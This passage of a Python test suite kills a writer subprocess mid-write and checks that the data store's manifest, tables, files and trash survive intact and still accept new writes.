    code = KILLED_WRITER.format(tests=str(ROOT / "tests"), path=str(full_store.path), point=point,
                                ready=str(ready), action=action)
    proc = subprocess.Popen([sys.executable, "-c", code], env={**os.environ, "PYTHONPATH": str(ROOT)},
                            stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while not ready.exists():
        assert proc.poll() is None, proc.stderr.read()
        assert time.monotonic() < deadline
        time.sleep(0.02)
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=10)
    proc.stderr.close()
    fresh = make_store(full_store.path)
    assert fresh.manifest() == manifest
    after = snapshot(fresh)
    for name in schema.TABLES:
        pd.testing.assert_frame_equal(after[name], before[name], obj=name)
    files = [p.relative_to(fresh.path) for p in fresh.path.rglob("*")]
    assert not [p for p in files if p.name.endswith(".tmp") or p.name.startswith(".tmp-")], files
    assert sorted(p.stem for p in (fresh.path / "raw").iterdir()) == sorted(fresh.ids())
    gens, g = {p.name for p in (fresh.path / "gen").iterdir()}, manifest["generation"]
    assert str(g) in gens and gens <= {str(g - 1), str(g)}
    pd.testing.assert_frame_equal(fresh.trash(), trash)
    assert len(list(fresh.path.glob("trash/*"))) == len(trash)
    # and the store takes writes again
    assert len(fresh.add_articles([art(TEXTS[2], "three.txt")]).added) == 1
    assert fresh.restore(list(trash["article_id"])) == list(trash["article_id"])
    assert sorted(fresh.tables()["events"]["article_id"]) == sorted(fresh.ids()) and len(fresh.ids()) == 3
